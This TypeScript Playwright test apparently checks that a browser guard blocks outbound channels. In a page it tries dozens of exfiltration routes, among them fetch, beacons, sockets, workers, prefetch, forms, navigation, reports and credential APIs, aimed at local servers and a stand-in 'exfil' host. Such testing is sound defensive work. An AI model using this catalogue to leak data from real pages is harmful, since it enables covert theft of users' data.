/** Requests, look-ups, navigation and services of the browser, each as a page would request it. */
import type { Page } from '@playwright/test';
import type { Attack } from './page.ts';

export async function tryRequests(window: Page): Promise<void> {
  await window.evaluate(async () => {
    const { attempt, element, link, pause, web, udp, tcp } = (globalThis as unknown as { attack: Attack })
      .attack;
    const named = (name: string): string => `https://a.exfil-${name}.example/`;
    const meta = (httpEquiv: string, content: string): void =>
      document.head.append(Object.assign(document.createElement('meta'), { httpEquiv, content }));
    const of = (object: object | undefined, name: string): ((...args: unknown[]) => unknown) => {
      const found: unknown = Reflect.get(object ?? {}, name);
      if (typeof found !== 'function') throw new TypeError(`There is no ${name}.`);
      return (...args) => Reflect.apply(found, object, args) as unknown;
    };
    const make = (name: string, ...args: unknown[]): unknown =>
      Reflect.construct(Reflect.get(window, name) as new () => object, args);
    const both = async (name: string, way: (url: string) => unknown): Promise<void> => {
      const path = name.replaceAll(/\W+/g, '-').toLowerCase();
      await attempt(name, () => way(`${web}/${path}`));
      await attempt(`${name} by name`, () => way(named(path)));
    };

    // Look-ups and connections in advance.
    await both('dns-prefetch', (url) => link('dns-prefetch', url));
    await both('preconnect', (url) => link('preconnect', url, { crossOrigin: 'anonymous' }));
    await attempt('dns-prefetch in a frame', () => {
      const frame = element('iframe') as HTMLIFrameElement;
      link('dns-prefetch', named('frame'), {}, frame.contentDocument!);
    });
    await attempt('dns-prefetch in srcdoc', () =>
      element('iframe', { srcdoc: `<link rel="dns-prefetch" href="${named('srcdoc')}">` }),
    );
    await attempt('dns-prefetch control and anchors', () => {
      meta('x-dns-prefetch-control', 'on');
      const anchor = element('a', { href: named('anchor'), textContent: 'x' });
      for (const type of ['pointerenter', 'mouseover', 'pointerdown', 'mousedown', 'touchstart'])
        anchor.dispatchEvent(new Event(type, { bubbles: true }));
    });
    await attempt('Link header in a meta element', () =>
      meta('Link', `<${named('link-header')}>; rel=preconnect`),
    );
    for (const kind of ['prefetch', 'prerender', 'prefetch_with_subresources']) {
      await both(`speculation rules ${kind}`, (url) => {
        for (const eagerness of ['immediate', 'eager'])
          element('script', {
            type: 'speculationrules',
            textContent: JSON.stringify({
              [kind]: [
                { source: 'list', urls: [url], eagerness },
                { source: 'document', eagerness, where: { href_matches: '*' } },
              ],
            }),
          });
      });
    }
    await attempt('import map', () => {
      element('script', { type: 'importmap', textContent: `{"imports":{"x":"${web}/map"}}` });
      const name: string = 'x';
      return import(name);
    });
    await attempt('web bundle', () =>
      element('script', {
        type: 'webbundle',
        textContent: `{"source":"${web}/bundle","resources":["${web}/x"]}`,
      }),
    );
    await attempt('new URL', () => new URL(named('url')).host);

    // Requests by script.
    await both('beacon', (url) => navigator.sendBeacon(url, 'x'));
    await both('fetch', (url) => fetch(url));
    await both('fetch that outlives the page', (url) => fetch(url, { mode: 'no-cors', keepalive: true }));
    await both('fetch later', (url) => of(window, 'fetchLater')(url, { activateAfter: 0 }));
    await both('XMLHttpRequest', (url) => {
      const request = new XMLHttpRequest();
      request.open('GET', url);
      request.send();
    });
    await attempt('XMLHttpRequest that blocks', () => {
      const request = new XMLHttpRequest();
      request.open('GET', `${web}/sync`, false);
      request.send();
    });
    await both('WebSocket', (url) => new WebSocket(url.replace(/^http/, 'ws')));
    await both('WebSocketStream', (url) => make('WebSocketStream', url.replace(/^http/, 'ws')));
    await both('EventSource', (url) => new EventSource(url));
    await attempt('WebTransport', () => new WebTransport(`https://127.0.0.1:${udp}/x`).ready);
    await attempt('WebTransport by name', () => new WebTransport(named('transport')).ready);
    await attempt('WebTransport with a certificate', () => {
      const serverCertificateHashes = [{ algorithm: 'sha-256', value: new Uint8Array(32) }];
      return new WebTransport(`https://127.0.0.1:${udp}/y`, { serverCertificateHashes }).ready;
    });
    for (const name of ['TCPSocket', 'UDPSocket', 'TCPServerSocket', 'P2PQuicTransport', 'QuicTransport'])
      await attempt(name, () => make(name, '127.0.0.1', tcp));
    await both('cache', async (url) => (await caches.open('x')).add(url));

    // Workers.
    await both('worker', (url) => new Worker(url));
    await both('module worker', (url) => new Worker(url, { type: 'module' }));
    await both('shared worker', (url) => new SharedWorker(url));
    await both('service worker', (url) => navigator.serviceWorker.register(url));
    await attempt('service worker of the page', () => navigator.serviceWorker.register('/guard.js'));
    const code = `fetch('${web}/in-worker').catch(() => 0); try { new WebSocket('ws://127.0.0.1:${tcp}/in-worker') } catch {}
      try { importScripts('${web}/imported.js') } catch {}`;
    await attempt(
      'worker of a blob',
      () => new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))),
    );
    await attempt('shared worker of a blob', () => new SharedWorker(URL.createObjectURL(new Blob([code]))));
    await attempt('worker of data', () => new Worker(`data:text/javascript,${encodeURIComponent(code)}`));
    for (const [worklet, holder] of Object.entries({
      paintWorklet: CSS,
      layoutWorklet: CSS,
      animationWorklet: CSS,
      sharedStorage: window,
    }))
      await both(worklet, (url) => {
        const found = Reflect.get(holder, worklet) as { addModule(url: string): unknown; worklet?: Worklet };
        return (found.worklet ?? found).addModule(url);
      });
    await both('audio worklet', (url) => new AudioContext().audioWorklet.addModule(url));
    await both('import()', (url) => import(url));

    // Elements whose attributes contain more than an address.
    await both('track', (url) => {
      const video = element('video', { src: 'data:video/mp4,x' }) as HTMLVideoElement;
      video.append(Object.assign(document.createElement('track'), { src: url, default: true }));
      Array.from(video.textTracks).forEach((track) => (track.mode = 'showing'));
    });
    await both('media source', (url) => {
      const video = element('video') as HTMLVideoElement;
      video.src = URL.createObjectURL(new MediaSource());
      video.append(Object.assign(document.createElement('source'), { src: url, type: 'video/mp4' }));
      video.load();
      return video.play();
    });
    await both('picture', (url) => {
      const picture = element('picture');
      picture.append(Object.assign(document.createElement('source'), { srcset: `${url} 1x` }));
      picture.append(document.createElement('img'));
    });
    await both('image out of the page', (url) => Object.assign(new Image(), { src: url }).decode());
    await both('form', (url) => {
      for (const method of ['get', 'post'])
        for (const target of ['', '_blank', '_top'])
          (element('form', { action: url, method, target }) as HTMLFormElement).submit();
    });
    await both('button of a form', (url) => {
      const form = element('form');
      const button = Object.assign(document.createElement('button'), { formAction: url });
      form.append(button);
      button.click();
    });
    await both('ping', (url) => {
      const anchor = element('a', { href: '#x', ping: url });
      anchor.setAttribute('attributionsrc', url);
      anchor.click();
    });
    await both('download', (url) => element('a', { href: url, download: 'x' }).click());
    await both('anchor', (url) => {
      for (const target of ['', '_blank', '_top', 'x'])
        element('a', { href: url, target, rel: 'opener' }).click();
    });

    // Navigation.
    await both('open', (url) => {
      for (const target of ['', '_blank', '_self', '_top']) open(url, target, 'popup');
      open(url, 'x', 'noopener,attributionsrc');
    });
    await both('open of a document', (url) => document.open(url, 'x', ''));
    await both('location', (url) => void (location.href = url));
    await both('location.assign', (url) => location.assign(url));
    await both('location.replace', (url) => location.replace(url));
    await both('navigation', (url) => of(Reflect.get(window, 'navigation') as object, 'navigate')(url));
    await both('history', (url) => history.pushState(null, '', url));
    await both('refresh', (url) => meta('refresh', `0;url=${url}`));
    await both('base', (url) => {
      document.head.append(Object.assign(document.createElement('base'), { href: url }));
      element('img', { src: 'x.png' });
    });
    await both('protocol handler', (url) => {
      navigator.registerProtocolHandler('web+x', `${url}?%s`);
      location.href = 'web+x:y';
    });
    for (const scheme of [
      'chrome',
      'devtools',
      'view-source:http',
      'file',
      'ftp',
      'blob',
      'filesystem',
      'ws',
      'intent',
    ])
      await attempt(`location ${scheme}`, () => void (location.href = `${scheme}://127.0.0.1:${tcp}/x`));

    // Reports.
    await both('report-uri', (url) => {
      meta('Content-Security-Policy', `img-src 'none'; report-uri ${url}; report-to x`);
      element('img', { src: 'https://not.allowed.example/' });
    });
    await both('report-to', (url) => {
      meta('Reporting-Endpoints', `x="${url}", default="${url}"`);
      meta('Report-To', JSON.stringify({ group: 'default', max_age: 9, endpoints: [{ url }] }));
      meta('NEL', '{"report_to":"default","max_age":9,"success_fraction":1}');
    });

    // Services of the browser.
    const identity = (url: string): CredentialRequestOptions =>
      ({ identity: { providers: [{ configURL: url, clientId: 'x' }] }, mediation: 'optional' }) as never;
    const total = { label: 'x', amount: { currency: 'EUR', value: '1' } };
    const publicKey = (): unknown => ({
      challenge: new Uint8Array(9),
      rpId: 'tokenkeep',
      rp: { name: 'x' },
      user: { id: new Uint8Array(9), name: 'x', displayName: 'x' },
      pubKeyCredParams: [{ type: 'public-key', alg: -7 }],
      extensions: { remoteClientDataJSON: 'x' },
      timeout: 100,
    });
    await Promise.all([
      both('federated sign-in', (url) => navigator.credentials.get(identity(url))),
      both('payment', (url) => new PaymentRequest([{ supportedMethods: url }], { total }).show()),
      both('payment asked for', (url) =>
        new PaymentRequest([{ supportedMethods: url }], { total }).canMakePayment(),
      ),
      attempt('passkey', () => navigator.credentials.get({ publicKey: publicKey() as never })),
      attempt('new passkey', () => navigator.credentials.create({ publicKey: publicKey() as never })),
      attempt('one-time code', () => navigator.credentials.get({ otp: { transport: ['sms'] } } as never)),
      attempt(
        'location of the computer',
        () => new Promise((...ends) => navigator.geolocation.getCurrentPosition(...ends)),
      ),
      attempt('speech', () => speechSynthesis.speak(new SpeechSynthesisUtterance('x'))),
      attempt('speech recognition', () => of(make('webkitSpeechRecognition') as object, 'start')()),
      both('notification', (url) => new Notification('x', { icon: url, image: url, badge: url } as never)),
      both('media session', (url) => {
        navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: url }] });
        navigator.mediaSession.playbackState = 'playing';
      }),
      both('presentation', (url) => {
        const request = make('PresentationRequest', [url]) as object;
        return Promise.all([of(request, 'getAvailability')(), of(request, 'start')()]);
      }),
      both('remote playback', (url) =>
        (element('video', { src: url }) as HTMLVideoElement).remote.watchAvailability(() => undefined),
      ),
      attempt('push', async () => {
        const worker = await Promise.race([navigator.serviceWorker.ready, pause(300)]);
        return of(
          Reflect.get(Object(worker), 'pushManager') as object,
          'subscribe',
        )({ userVisibleOnly: true });
      }),
      both('background fetch', async (url) => {
        const worker = await Promise.race([navigator.serviceWorker.ready, pause(300)]);
        return of(Reflect.get(Object(worker), 'backgroundFetch') as object, 'fetch')('x', [url]);
      }),
      attempt('protected media', () =>
        navigator.requestMediaKeySystemAccess('com.widevine.alpha', [
          { videoCapabilities: [{ contentType: 'video/mp4; codecs="avc1.42E01E"' }] },
        ]),
      ),
      attempt('screen', () => navigator.mediaDevices.getDisplayMedia()),
      attempt('microphone', () => navigator.mediaDevices.getUserMedia({ audio: true })),
      both('share', (url) => navigator.share({ url })),
      both('advertising', (url) => of(navigator, 'joinAdInterestGroup')({ name: 'x', owner: url }, 1000)),
      both('auction', (url) => of(navigator, 'runAdAuction')({ seller: url, decisionLogicURL: url })),
      both('topics', () => of(document, 'browsingTopics')()),
      both('trust token', (url) => of(document, 'hasPrivateToken')(url)),
      both('storage access', (url) => of(document, 'requestStorageAccessFor')(url)),
      both('shared storage', (url) =>
        of(Reflect.get(window, 'sharedStorage') as object, 'selectURL')('x', [{ url }]),
      ),
    ]);
  });
}
